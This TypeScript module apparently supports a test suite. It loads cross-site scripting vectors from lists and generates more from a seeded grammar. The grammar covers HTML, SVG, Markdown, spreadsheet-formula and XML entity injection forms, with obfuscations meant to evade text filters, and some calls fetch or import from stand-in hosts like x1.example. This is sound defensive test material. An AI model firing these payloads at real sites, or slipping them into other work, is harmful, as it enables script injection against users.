import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { Random } from "../../src/work/random.ts";

/*
 * Vectors: texts that run a program where a page takes them for more than text. They come from
 * lists that others have made, or from a grammar of the ways that are known.
 */

/** In characters. A longer one is a file, not a vector. */
const longest = 1_000;

/**
 * Reads every vector below a folder once: the lines of its files, and the strings of those
 * in JSON.
 */
export function readVectors(folder: string): string[] {
  const found = readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .toSorted((a, b) => (a.name < b.name ? -1 : 1))
    .flatMap(({ parentPath, name }) => {
      const text = readFileSync(join(parentPath, name), "utf8");
      return name.endsWith(".json") ? stringsIn(JSON.parse(text)) : text.split(/\r?\n/u);
    })
    .map((vector) => vector.replaceAll(/[\r\n]+/gu, " ").trim())
    .filter((vector) => vector.length <= longest && /[<>"'`&=:(]/u.test(vector));
  return [...new Set(found)];
}

function stringsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(stringsIn) : [];
}

/** Makes `count` vectors of the grammar; the same seed makes the same. */
export function madeVectors(count: number, seed: number): string[] {
  const random = new Random(seed);
  const made = new Set<string>();
  while (made.size < count) made.add(madeVector(random, made.size));
  return [...made];
}

function madeVector(random: Random, number: number): string {
  const call = random.pick(calls)(number);
  const shape = random.pick(shapes)(random, call);
  const begun = random.once(2) ? random.pick(ends) + shape : shape;
  const ended = random.once(4) ? begun + random.pick(starts) : begun;
  return random.once(3) ? random.pick(disguises)(ended, random) : ended;
}

/** What a vector runs; its number says which one it was. */
const calls: readonly ((number: number) => string)[] = [
  (number) => `alert(${number})`,
  (number) => `prompt\`${number}\``,
  (number) => `confirm(/${number}/.source)`,
  (number) => `print(${number})`,
  (number) => `top["al"+"ert"](${number})`,
  (number) => `(0,eval)("alert(${number})")`,
  (number) => `[${number}].find(alert)`,
  (number) => `setTimeout("alert(${number})",0)`,
  (number) => `import("//x${number}.example/x.js")`,
  (number) => `fetch("//x${number}.example/")`,
  (number) => `location="//x${number}.example/"`,
  (number) => `Function("alert(${number})")()`,
];

/** Ends of what a text may stand in: an attribute, an element, a comment, a string, Markdown. */
const ends = [
  ...[
    '">',
    "'>",
    '"',
    "'",
    ">",
    "-->",
    "]]>",
    "*/",
    "`",
    "\\",
    "/>",
    '" ',
    "' ",
    "]",
    ")",
    "](",
    "> ",
  ],
  ..."title script style textarea noscript template p a h1 td svg select xmp iframe head body"
    .split(" ")
    .map((name) => `</${name}>`),
  ...[
    '"}</script>',
    "'}]</script>",
    "\\u003c/script>",
    "{{",
    "${",
    "\0",
    "&quot;>",
    "&#34;>",
    "%22%3E",
  ],
];

/** Starts that swallow what comes after a text. */
const starts = [
  "<!--",
  "<![CDATA[",
  "<textarea>",
  "<plaintext>",
  "<style>",
  "<script>",
  "<a b='",
  '<a b="',
  "<svg><",
];

const tags =
  "a audio bdo body br button details dialog div embed form frameset iframe image img input isindex keygen link marquee math menu meta meter noscript object p picture select source style svg table template textarea title track video x xmp".split(
    " ",
  );
const events =
  "abort afterprint animationend animationstart auxclick beforeinput beforetoggle begin blur canplay click copy cuechange dblclick drag end error finish focus focusin hashchange input keydown load loadeddata loadstart message mousedown mouseover pageshow paste play pointerenter pointerrawupdate progress repeat reset resize scroll securitypolicyviolation seeked show start submit suspend timeupdate toggle touchstart transitionend unload volumechange wheel".split(
    " ",
  );
const addressed = [
  ...["a href", "area href", "base href", "iframe src", "embed src", "object data", "form action"],
  ...[
    "button formaction",
    "input type=image src",
    "img src",
    "link rel=stylesheet href",
    "script src",
  ],
  ...[
    "svg><a xlink:href",
    "svg><use href",
    "math><a xlink:href",
    "body background",
    "video poster",
  ],
  ...[
    "meta http-equiv=refresh content",
    "img srcset",
    "q cite",
    "html manifest",
    "a ping",
    "table background",
  ],
] as const;
const schemes = [
  ...[
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\u0001javascript:",
    "java&#9;script:",
    "java&Tab;script:",
  ],
  ...[
    "javascript&colon;",
    "&#106avascript:",
    "&#x6A;avascript:",
    "javascript&#x3A;",
    "java\tscript:",
  ],
  ...[
    "data:text/html,<script>",
    "data:text/html;charset=utf-8,<script>",
    "data:image/svg+xml,<svg onload=",
  ],
  ...[
    "vbscript:",
    "livescript:",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "blob:",
    "0;url=javascript:",
  ],
  ...[
    "javascript://%0a",
    "//x.example/",
    "\\\\x.example\\",
    "https:javascript:",
    "mailto:x@x.example?",
    "%6Aavascript:",
  ],
];
const spaces = [" ", "/", "\t", "\u000c", "/ /", " x=y ", "/x='y'/", " \u00a0 "];

type Shape = (random: Random, call: string) => string;

const shapes: readonly Shape[] = [
  (_random, call) => `<script>${call}</script>`,
  (random, call) =>
    `<script${random.pick(spaces)}type=${random.pick(["module", "text/javascript", "text/babel"])}>${call}</script>`,
  (random, call) => {
    const space = random.pick(spaces);
    const tag = random.pick(tags);
    return `<${tag}${space}src=x${space}on${random.pick(events)}=${call}>`;
  },
  (random, call) =>
    `<${random.pick(tags)} on${random.pick(events)}="${call}" autofocus tabindex=1>`,
  (random, call) => `<img src=x onerror=${quoted(random, call)}>`,
  (random, call) => `<svg${random.pick(spaces)}onload=${quoted(random, call)}>`,
  (random, call) => `<details open ontoggle=${quoted(random, call)}>x`,
  (random, call) => `<svg><animate onbegin=${quoted(random, call)} attributeName=x dur=1s>`,
  (_random, call) => `<svg><script href="data:,${call}"/>`,
  (_random, call) => `<svg><set attributeName=href to=javascript:${call}>`,
  (_random, call) => `<math><mtext><table><mglyph><style><img src onerror=${call}>`,
  (_random, call) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (_random, call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (_random, call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (_random, call) => `<style>@import "//x.example/";*{background:url(javascript:${call})}</style>`,
  (_random, call) =>
    `<div style="width:expression(${call});animation-name:x" onanimationstart="${call}">`,
  (random, call) => `<${random.pick(addressed)}="${random.pick(schemes)}${call}">x`,
  (random, call) => `<${random.pick(addressed)}='${random.pick(schemes)}${call}'>x</a>`,
  (random, call) => `${random.pick(schemes)}${call}`,
  (random, call) => `[x](${random.pick(schemes)}${call})`,
  (random, call) => `![x](${random.pick(schemes)}${call})`,
  (random, call) => `[x](<${random.pick(schemes)}${call}> "x")`,
  (random, call) => `[x](/ "${random.pick(ends)} on${random.pick(events)}=${call} x=")`,
  (random, call) => `![" on${random.pick(events)}="${call}](x.png)`,
  (random, call) => `<${random.pick(schemes)}${call}>`,
  (random, call) => `[x]: ${random.pick(schemes)}${call}`,
  (random, call) => `https://x.example/"on${random.pick(events)}="${call}`,
  (random, call) => `" on${random.pick(events)}=${call} x="`,
  (random, call) => `' on${random.pick(events)}=${call} x='`,
  (_random, call) => `";${call};//`,
  (_random, call) => `</script><script>${call}</script>`,
  (_random, call) => `=HYPERLINK("javascript:${call}")`,
  (_random, call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (_random, call) => `<x xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></x>`,
  (_random, call) => `<!DOCTYPE x [<!ENTITY y SYSTEM "//x.example/${call}">]>&y;`,
];

function quoted(random: Random, call: string): string {
  return random.pick([
    call,
    `"${call}"`,
    `'${call}'`,
    `javascript:${call}`,
    call.replaceAll("(", "&lpar;"),
  ]);
}

/** Ways to write a vector that a filter of texts may not see through. */
const disguises: readonly ((vector: string, random: Random) => string)[] = [
  (vector, random) =>
    vector.replaceAll(/[a-z]/gu, (letter) => (random.once(2) ? letter.toUpperCase() : letter)),
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => vector.replaceAll("<", "&amp;lt;"),
  (vector) => vector.replaceAll(/[<>"':]/gu, (sign) => `&#${sign.codePointAt(0)};`),
  (vector) => vector.replaceAll(/[<>"':]/gu, (sign) => `&#x${sign.codePointAt(0)!.toString(16)}`),
  (vector) => vector.replaceAll(/[<>"': ]/gu, (sign) => encodeURIComponent(sign)),
  (vector) => vector.replaceAll("<", "%253C"),
  (vector) => vector.replaceAll("<", "\\u003c"),
  (vector) => vector.replaceAll("<", "\\<"),
  (vector) => vector.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (vector) => vector.replaceAll("<", "<\0"),
  (vector) => vector.replaceAll("<", "<<"),
  (vector) => vector.replaceAll("script", "scr\u00adipt"),
  (vector) => vector.replaceAll("script", "ſcript"),
  (vector) => vector.replaceAll("script", "scrscriptipt"),
  (vector) => `\`\`${vector}\`\``,
  (vector) => `**${vector}**`,
  (vector) => `[${vector}](/)`,
  (vector) => `<${vector}`,
  (vector) => `${vector}\u2028${vector}`,
];
